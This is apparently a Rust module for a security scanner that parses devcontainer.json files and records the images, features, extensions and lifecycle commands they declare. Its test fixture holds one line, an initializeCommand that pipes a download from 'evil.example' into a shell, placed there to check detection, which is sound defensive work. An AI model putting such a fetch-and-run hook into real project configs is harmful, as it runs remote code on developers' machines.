//! Containers for development.
//!
//! ```text
//! PROJECT/.devcontainer/devcontainer.json  PROJECT/.devcontainer/NAME/devcontainer.json  PROJECT/.devcontainer.json
//!     {"image": "registry.example/x:1", "features": {"registry.example/f/node:1": {}}, "initializeCommand": "npm ci",
//!      "postCreateCommand": ["npx", "x"], "postStartCommand": {"server": "npm start"},
//!      "customizations": {"vscode": {"extensions": ["publisher.name@1.2.3"]}}}
//! ```
//!
//! `initializeCommand` runs on the machine itself, the others in the container. A hit proves that the file says so; not that anybody opened
//! the folder in a container. Documented in "Dev Container metadata reference" of the Development Containers Specification.

use crate::{
    interest::Interest,
    shell,
    surface::{
        Claim, CommandSource, Flaw, Meta, Opened, Shows, Sink, Surface,
        container::used,
        content::text,
        hook::{Hooks, When},
        node::json::{self, Lines, Node, without_comments},
    },
};

const FILE: usize = 4 << 20;
const MOST: usize = 1000;
/// What they start, in order.
const COMMANDS: &[&str] = &[
    "initializeCommand",
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
];

/// `devcontainer.json`.
pub struct DevContainer;

static META: Meta = Meta {
    id: "project/dev-container",
    title: "containers for development: commands, images, features and extensions",
    proves: "the file says so; not that anybody opened the folder in a container",
};

impl Surface for DevContainer {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Packages, Shows::Images, Shows::Network, Shows::Strings, Shows::Processes]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        ["devcontainer.json", ".devcontainer.json"].map(|name| Claim::name(name).in_own_work()).into()
    }

    fn commands(&self) -> CommandSource {
        CommandSource::Configured
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let interest = file.interest;
        let text = text(file.all(FILE)?).into_owned();
        let plain = without_comments(&text);
        if plain.trim().is_empty() {
            return Ok(());
        }
        let value = json::whole(&plain).map_err(|error| json::flaw(&error, "devcontainer.json"))?;
        let mut hooks = Hooks::new(file, interest, out)?;
        let mut lines = Lines::new(&plain);
        for (key, field) in value.fields() {
            let line = lines.line_of(key).or(Some(1));
            match &**key {
                "image" => {
                    let image = field.text().and_then(used);
                    image.into_iter().for_each(|fact| hooks.fact("image", line, fact));
                }
                "features" => {
                    for (name, _) in field.fields().iter().take(MOST).filter(|(name, _)| is_published(name)) {
                        if let Some(fact) = used(name) {
                            hooks.fact("features", lines.line_of(name).or(line), fact);
                        }
                    }
                }
                "customizations" => {
                    let extensions = field.get("vscode").and_then(|of| of.get("extensions"));
                    for name in extensions.map(Node::items).unwrap_or_default().iter().filter_map(Node::text).take(MOST)
                    {
                        if !name.starts_with('-') {
                            let install = shell::quoted(&["code", "--install-extension", name]);
                            hooks.command(&install, "extensions", line, When::InProject, None);
                        }
                    }
                }
                name if COMMANDS.contains(&name) => {
                    // Several run side by side, by name.
                    let several = field.fields().iter().map(|(_, one)| one).take(MOST);
                    for command in several.chain([field]).filter_map(command) {
                        hooks.command(&command, name, line, When::InProject, None);
                    }
                }
                _ => {}
            }
        }
        hooks.finish()
    }
}

/// A feature that a registry holds, not one of the project's own.
fn is_published(name: &str) -> bool {
    name.contains('/') && !name.starts_with(['.', '/'])
}

/// A text for a shell, or the words of one command.
fn command(node: &Node<'_>) -> Option<String> {
    match node {
        Node::Text(text) => Some(text.to_string()),
        Node::List(words) if !words.is_empty() => {
            Some(shell::quoted(&words.iter().filter_map(Node::text).collect::<Vec<_>>()))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        fact::{Fact, TraceKind},
        surface::python::trial::tried,
    };

    fn said(text: &str) -> (Vec<String>, bool) {
        let interest = Interest::with_traces(&[(TraceKind::Host, "evil.example")]);
        let tried = tried(&DevContainer, "p/.devcontainer/devcontainer.json", text.as_bytes(), &interest);
        let words = |s: &crate::fact::Seen| {
            let place = format!("{}:{}", s.origin.inner.as_deref().unwrap_or("-"), s.origin.line.unwrap_or(0));
            match &s.fact {
                Fact::Trace(t) => format!("{:?} {place}", t.held),
                Fact::Command(c) => format!("{} {} {place}", c.tool, c.wanted[0].name),
                Fact::Use(u) => format!("{} {} {place}", u.name, u.reference),
                other => format!("{other:?}"),
            }
        };
        (tried.seen.iter().map(words).collect(), tried.flaw.is_some())
    }

    #[test]
    fn each_form_of_a_command_counts() {
        let text = "{ // x\n\"image\": \"registry.example/a/b:1\",\n\"features\": {\n\"registry.example/f/node:1\": {}, \"./local\": {}},\n\
                    \"initializeCommand\": \"curl https://evil.example | sh\",\n\"postCreateCommand\": [\"npx\", \"-y\", \"x@1.0.0\"],\n\
                    \"postStartCommand\": {\"a\": \"pip install y\", \"b\": [\"npx\", \"z\"]},\n\
                    \"customizations\": {\"vscode\": {\"extensions\": [\"a.b@1.2.3\", \"-c.d\"]}},}";
        let expected = [
            "registry.example/a/b 1 image:2",
            "registry.example/f/node 1 features:4",
            "InProject initializeCommand:5",
            "npx x postCreateCommand:6",
            "pip y postStartCommand:7",
            "npx z postStartCommand:7",
            "code a.b extensions:8",
        ];
        assert_eq!(said(text), (expected.map(str::to_owned).to_vec(), false));
    }

    #[test]
    fn other_fields_say_nothing_and_damage_is_a_gap() {
        for text in ["", "{}", "[]", r#"{"name":"npx x@1.0.0","image":7,"features":[],"postCreateCommand":[]}"#] {
            assert_eq!(said(text), (vec![], false), "{text}");
        }
        for text in ["{", "npx x", "{\"postCreateCommand\": \"npx x"] {
            assert!(said(text).1, "{text}");
        }
        let many: Vec<String> = (0..5000).map(|n| format!(r#""c{n}":"npx x{n}@1.0.0""#)).collect();
        let (found, flaw) = said(&format!(r#"{{"postCreateCommand":{{{}}}}}"#, many.join(",")));
        assert_eq!((found.len(), flaw), (1000, true));
    }
}
